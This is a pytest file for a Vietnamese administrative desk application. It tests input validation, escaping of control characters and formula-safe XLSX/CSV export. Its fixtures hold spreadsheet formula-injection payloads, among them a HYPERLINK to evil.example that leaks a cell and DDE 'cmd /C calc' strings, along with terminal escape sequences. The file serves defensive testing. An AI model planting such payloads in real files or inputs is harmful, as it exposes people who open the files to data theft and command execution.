"""Hostile input at every service that stores text: control characters and huge values are
refused with a message next to the field; what is stored reaches the XLSX and CSV exports as
text (never a formula), the terminal escaped, and no error text carries the values."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import String, func, select, text, update
from sqlalchemy.exc import IntegrityError

from desk_app.cli.app import run
from desk_app.domain import limits
from desk_app.domain.catalog import ProcedureSpec, dump_catalog_csv, load_catalog_csv
from desk_app.domain.due import DurationUnit
from desk_app.errors import FieldsError, ValidationError
from desk_app.log_scrub import exception_summary, scrubbed_traceback
from desk_app.services import amend, desk, intake, lifecycle, post, users, watch
from desk_app.services.bulk import import_files, parse_import
from desk_app.services.context import Actor
from desk_app.services.lifecycle import MoveInput
from desk_app.services.reports import REGISTER_FIRST_DATA_ROW, register_xlsx, statistics_xlsx
from desk_app.services.statistics import GroupBy, period_report
from desk_app.services.views import FileView
from desk_app.store.engine import Database
from desk_app.store.models import Applicant, DeskSettings, FileRecord, Procedure, User

NOW = datetime(2026, 3, 2, 10, 0)
RECEIVED = datetime(2026, 3, 2, 9, 15)
KARAOKE = "1.001029"
ESC = "\x1b[2J\x1b[31m"


def _intake(name: str = "Đặng Thị Ánh", **fields: str) -> intake.IntakeInput:
    applicant = {k: fields.pop(k) for k in ("id_number", "phone", "address") if k in fields}
    return intake.IntakeInput(
        procedure=KARAOKE,
        applicant=intake.ApplicantInput(name=name, **applicant),
        received_at=RECEIVED,
        **fields,  # type: ignore[arg-type]
    )


def _files(db: Database) -> int:
    with db.reader.begin() as s:
        return int(s.scalar(select(func.count()).select_from(FileRecord)) or 0)


# --- intake: length and control characters ------------------------------------------------------


def test_a_ten_megabyte_name_is_refused_at_once_and_nothing_is_stored(
    db: Database, officer: Actor
) -> None:
    huge = "Nguyễn Văn A " * 800_000
    started = time.perf_counter()
    with pytest.raises(FieldsError) as caught, db.writer.begin() as s:
        intake.accept_file(s, _intake(huge), officer, now=RECEIVED)
    assert time.perf_counter() - started < 2
    assert caught.value.errors["applicant_name"].startswith(
        "Họ và tên chủ hồ sơ không được dài quá 300 ký tự"
    )
    assert _files(db) == 0


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"name": f"{ESC}Nguyễn Văn A"}, "applicant_name"),
        ({"name": "Nguyễn\nVăn A"}, "applicant_name"),
        ({"address": "Số 1\x00 Lê Lợi"}, "address"),
        ({"notes": "ghi chú \x07"}, "notes"),
        ({"notes": "x" * (limits.LONG_TEXT + 1)}, "notes"),
        ({"submitter_name": "Bà \u202eB"}, "submitter_name"),
        ({"authorisation": "giấy \x9b ủy quyền"}, "authorisation"),
        ({"id_number": "0" * 30}, "id_number"),
    ],
)
def test_intake_refuses_controls_and_overlong_text_next_to_the_field(
    db: Database, officer: Actor, fields: dict[str, str], field: str
) -> None:
    with pytest.raises(FieldsError) as caught, db.writer.begin() as s:
        intake.accept_file(s, _intake(**fields), officer, now=RECEIVED)
    assert field in caught.value.errors
    assert _files(db) == 0


def test_addresses_and_notes_may_span_lines(db: Database, officer: Actor) -> None:
    data = _intake(address="Số 1 Lê Lợi\r\nLạng Sơn", notes="dòng 1\n\tdòng 2")
    with db.writer.begin() as s:
        view = intake.accept_file(s, data, officer, now=RECEIVED)
    with db.reader.begin() as s:
        record = s.scalars(select(FileRecord).where(FileRecord.code == view.code)).one()
        assert record.notes == "dòng 1\n\tdòng 2"


def test_a_refusal_reason_with_a_control_character_is_refused(db: Database, officer: Actor) -> None:
    with pytest.raises(ValidationError) as caught, db.writer.begin() as s:
        intake.refuse_file(s, _intake(), f"thiếu giấy{ESC}", officer, now=RECEIVED)
    assert caught.value.field == "reason"


# --- every other service that stores text --------------------------------------------------------


@pytest.fixture
def accepted(db: Database, officer: Actor) -> FileView:
    with db.writer.begin() as s:
        return intake.accept_file(s, _intake(), officer, now=RECEIVED)


Case = Callable[[Database, FileView, Actor, Actor], object]


def _correct(db: Database, f: FileView, officer: Actor, _admin: Actor) -> object:
    with db.writer.begin() as s:
        return amend.correct_field(
            s, amend.Correction(f.code, "applicant_name", f"A{ESC}", "sai tên"), officer, now=NOW
        )


def _correct_reason(db: Database, f: FileView, officer: Actor, _admin: Actor) -> object:
    with db.writer.begin() as s:
        return amend.correct_field(
            s, amend.Correction(f.code, "notes", "mới", "r" * 2001), officer, now=NOW
        )


def _withdraw(db: Database, f: FileView, officer: Actor, _admin: Actor) -> object:
    with db.writer.begin() as s:
        return lifecycle.withdraw(s, MoveInput(f.code), f"rút\x00{ESC}", officer, now=NOW)


def _forward_note(db: Database, f: FileView, officer: Actor, _admin: Actor) -> object:
    with db.writer.begin() as s:
        return lifecycle.forward(s, MoveInput(f.code, note=f"n{ESC}"), officer, now=NOW)


def _post(db: Database, f: FileView, officer: Actor, _admin: Actor) -> object:
    with db.writer.begin() as s:
        return post.choose_post(
            s, f.code, name=f"B{ESC}", phone="", address="x" * 2001, actor=officer, now=NOW
        )


def _delay(db: Database, f: FileView, _officer: Actor, admin: Actor) -> object:
    with db.writer.begin() as s:
        return watch.set_delay_reason(s, [f.code], "chậm\x1b", admin, now=NOW)


def _user(db: Database, _f: FileView, _officer: Actor, admin: Actor) -> object:
    with db.writer.begin() as s:
        return users.create_user(
            s, "moi", f"Cán bộ{ESC}", users.Role.OFFICER, "matkhau123", admin, now=NOW
        )


def _username(db: Database, _f: FileView, _officer: Actor, admin: Actor) -> object:
    with db.writer.begin() as s:
        return users.create_user(
            s, "a" * 61, "Cán bộ", users.Role.OFFICER, "matkhau123", admin, now=NOW
        )


def _settings(db: Database, _f: FileView, _officer: Actor, admin: Actor) -> object:
    with db.writer.begin() as s:
        return desk.update_settings(s, desk.IdentityInput(agency_name=f"SỞ{ESC}"), admin, now=NOW)


def _calendar(db: Database, _f: FileView, _officer: Actor, admin: Actor) -> object:
    with db.writer.begin() as s:
        return desk.set_calendar_day(s, date(2026, 3, 7), True, "làm bù\x07", admin, now=NOW)


def _procedure(_db: Database, _f: FileView, _officer: Actor, _admin: Actor) -> object:
    return ProcedureSpec(
        "X.1", f"Thủ tục{ESC}", "Văn hóa", "Sở", Decimal(5), DurationUnit.WORKING_DAYS
    )


def _procedure_long(_db: Database, _f: FileView, _officer: Actor, _admin: Actor) -> object:
    return ProcedureSpec("X.1", "T" * 501, "Văn hóa", "Sở", Decimal(5), DurationUnit.WORKING_DAYS)


@pytest.mark.parametrize(
    ("case", "field"),
    [
        (_correct, "applicant_name"),
        (_correct_reason, "reason"),
        (_withdraw, "reason"),
        (_forward_note, "note"),
        (_post, "name"),
        (_delay, "reason"),
        (_user, "full_name"),
        (_username, "username"),
        (_settings, "agency_name"),
        (_calendar, "note"),
        (_procedure, "name"),
        (_procedure_long, "name"),
    ],
)
def test_every_service_refuses_controls_and_overlong_text(
    db: Database, accepted: FileView, officer: Actor, admin: Actor, case: Case, field: str
) -> None:
    with db.reader.begin() as s:
        before = s.scalar(select(FileRecord.version).where(FileRecord.code == accepted.code))
    with pytest.raises(ValidationError) as caught:
        case(db, accepted, officer, admin)
    errors = getattr(caught.value, "errors", {caught.value.field: caught.value.message})
    assert field in errors, errors
    assert "ký tự" in errors[field]
    with db.reader.begin() as s:
        assert (
            s.scalar(select(FileRecord.version).where(FileRecord.code == accepted.code)) == before
        )
        assert s.scalar(select(func.count()).select_from(User).where(User.username == "moi")) == 0


def test_an_import_row_with_a_control_character_is_refused(
    db: Database, supervisor: Actor, tmp_path: Path
) -> None:
    path = tmp_path / "files.csv"
    path.write_text(
        f"procedure,applicant_name,received\n{KARAOKE},Nguyễn{ESC}Văn A,2026-03-02T09:15\n",
        encoding="utf-8",
    )
    where, rows = parse_import(path)
    with pytest.raises(ValidationError, match="ký tự điều khiển"), db.writer.begin() as s:
        import_files(s, rows, supervisor, where=where, now=NOW)
    assert _files(db) == 0


def test_the_limits_match_the_columns_they_guard() -> None:
    pairs = [
        (Applicant.__table__.c.name, limits.PERSON_NAME),
        (FileRecord.__table__.c.delivery_name, limits.PERSON_NAME),
        (FileRecord.__table__.c.submitter_name, limits.PERSON_NAME),
        (FileRecord.__table__.c.postal_in_sender, limits.PERSON_NAME),
        (Applicant.__table__.c.email, limits.EMAIL),
        (User.__table__.c.username, limits.USERNAME),
        (User.__table__.c.full_name, limits.FULL_NAME),
        (Procedure.__table__.c.name, limits.PROCEDURE_NAME),
        (Procedure.__table__.c.field, limits.PROCEDURE_FIELD),
        (Procedure.__table__.c.settling_agency, limits.SETTLING_AGENCY),
        (DeskSettings.__table__.c.agency_name, limits.BODY_NAME),
        (DeskSettings.__table__.c.place_name, limits.PLACE_NAME),
        (DeskSettings.__table__.c.lookup_url, limits.LOOKUP_URL),
        (DeskSettings.__table__.c.phone, limits.DESK_PHONE),
    ]
    for column, limit in pairs:
        assert isinstance(column.type, String)
        assert column.type.length == limit, column


# --- the exports: text, never a formula ----------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
HOSTILE_ADDRESS = "=1+2"
HOSTILE_NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_PROCEDURE = "+1-1 =cmd|' /C calc'!A0"


def _formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        return [n for n in sheets if re.search(rb"<f[ >]", z.read(n))]


def _values(xlsx: bytes) -> list[object]:
    ws = load_workbook(io.BytesIO(xlsx)).active
    assert isinstance(ws, Worksheet)
    return [c.value for row in ws.iter_rows() for c in row]


@pytest.fixture
def hostile(db: Database, officer: Actor, admin: Actor) -> Database:
    spec = ProcedureSpec(
        "X.1", HOSTILE_PROCEDURE, "-Lĩnh vực", "=Sở", Decimal(5), DurationUnit.WORKING_DAYS
    )
    with db.writer.begin() as s:
        desk.save_procedure(s, spec, admin, new=True, now=RECEIVED)
    for procedure in (KARAOKE, "X.1"):
        data = intake.IntakeInput(
            procedure=procedure,
            applicant=intake.ApplicantInput(name=HOSTILE_NAME, address=HOSTILE_ADDRESS),
            received_at=RECEIVED,
            notes=HOSTILE_NOTES,
        )
        with db.writer.begin() as s:
            intake.accept_file(s, data, officer, now=RECEIVED)
    return db


def test_the_register_xlsx_holds_hostile_text_as_text(hostile: Database) -> None:
    with hostile.reader.begin() as s:
        xlsx = register_xlsx(s, date(2026, 3, 1), date(2026, 3, 31))
    assert _formulas(xlsx) == []
    values = _values(xlsx)
    assert values.count(HOSTILE_NAME) == 2
    assert HOSTILE_PROCEDURE in values
    assert any(isinstance(v, str) and v.startswith(HOSTILE_ADDRESS) for v in values)
    ws = load_workbook(io.BytesIO(xlsx)).active
    assert isinstance(ws, Worksheet)
    cell = ws.cell(REGISTER_FIRST_DATA_ROW, 5)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE_NAME, "s", True)


def test_the_statistics_xlsx_holds_hostile_procedure_names_as_text(hostile: Database) -> None:
    with hostile.reader.begin() as s:
        by_procedure = period_report(s, date(2026, 3, 1), date(2026, 3, 31), GroupBy.PROCEDURE)
        by_field = period_report(s, date(2026, 3, 1), date(2026, 3, 31), GroupBy.FIELD)
        xlsx = [statistics_xlsx(s, by_procedure), statistics_xlsx(s, by_field)]
    for data in xlsx:
        assert _formulas(data) == []
    assert any(isinstance(v, str) and HOSTILE_PROCEDURE in v for v in _values(xlsx[0]))
    assert "-Lĩnh vực" in _values(xlsx[1])


def test_old_rows_with_control_characters_are_exported_escaped(hostile: Database) -> None:
    # A row written before the services refused control characters (or by another program).
    # PostgreSQL stores no NUL in text at all (no such row can exist on a server): there the
    # row holds BEL, another control character no worksheet may carry raw.
    control = "\x07" if hostile.is_server else "\x00"
    with hostile.writer.begin() as s:
        s.execute(update(Applicant).values(name=f"Nguyễn{ESC}{control}Văn A"))
    with hostile.reader.begin() as s:
        xlsx = register_xlsx(s, date(2026, 3, 1), date(2026, 3, 31))
    assert f"Nguyễn\\x1b[2J\\x1b[31m\\x{ord(control):02x}Văn A" in _values(xlsx)


def test_the_catalogue_csv_quotes_formulas_and_reads_them_back() -> None:
    spec = ProcedureSpec(
        "X.1", "=1+2", "@Lĩnh vực", "-Sở", Decimal(5), DurationUnit.WORKING_DAYS, fee_note="+1"
    )
    csv_text = dump_catalog_csv([spec])
    row = csv_text.splitlines()[1]
    assert row.startswith("X.1,'=1+2,'@Lĩnh vực,'-Sở,")
    assert "'+1" in row
    assert load_catalog_csv(csv_text) == [spec]


# --- the terminal and the error texts ------------------------------------------------------------


def test_the_command_line_prints_control_characters_escaped(
    hostile: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    with hostile.writer.begin() as s:
        s.execute(update(Applicant).values(name=f"Nguyễn{ESC}Văn A\u202e"))
        code = s.scalars(select(FileRecord.code)).first()
    assert code is not None
    assert run(["--db", str(hostile.path or hostile.url), "files", "show", code]) == 0
    out = capsys.readouterr().out
    assert "Nguyễn\\x1b[2J\\x1b[31mVăn A\\u202e" in out
    assert "\x1b" not in out and "\u202e" not in out


def test_database_errors_carry_no_statement_values(db: Database) -> None:
    secret = "Nguyễn Văn Bí Mật 001099012345"
    with pytest.raises(IntegrityError) as caught, db.writer.begin() as s:
        for _ in range(2):
            s.execute(text("INSERT INTO counters (name, value) VALUES (:n, 1)"), {"n": secret})
    assert secret not in str(caught.value)
    # The engine's own words for it stay (PostgreSQL's DETAIL line, which names the key's
    # value, is what the engine set-up leaves out).
    if db.is_server:
        assert 'violates unique constraint "counters_pkey"' in str(caught.value)
        assert caught.value.orig is not None and secret in str(
            caught.value.orig.diag.message_detail
        )
    else:
        assert "UNIQUE constraint failed" in str(caught.value)


def test_the_log_text_of_an_error_drops_parameters_and_data_messages() -> None:
    secret = ("Nguyễn Văn Bí Mật", "001099012345", "0912345678", "Số 1 Lê Lợi")
    orig = Exception("CHECK constraint failed: ck_files_status")
    errors: list[BaseException] = [
        IntegrityError("INSERT INTO applicants VALUES (?, ?, ?, ?)", secret, orig),
        ValueError(f"invalid literal for int(): '{secret[1]}'"),
        KeyError(secret[0]),
    ]
    for exc in errors:
        try:
            raise RuntimeError("wrapped") from exc
        except RuntimeError as outer:
            logged = scrubbed_traceback(outer)
        for value in secret:
            assert value not in logged
        assert type(exc).__name__ in logged
    assert "CHECK constraint failed: ck_files_status" in exception_summary(errors[0])
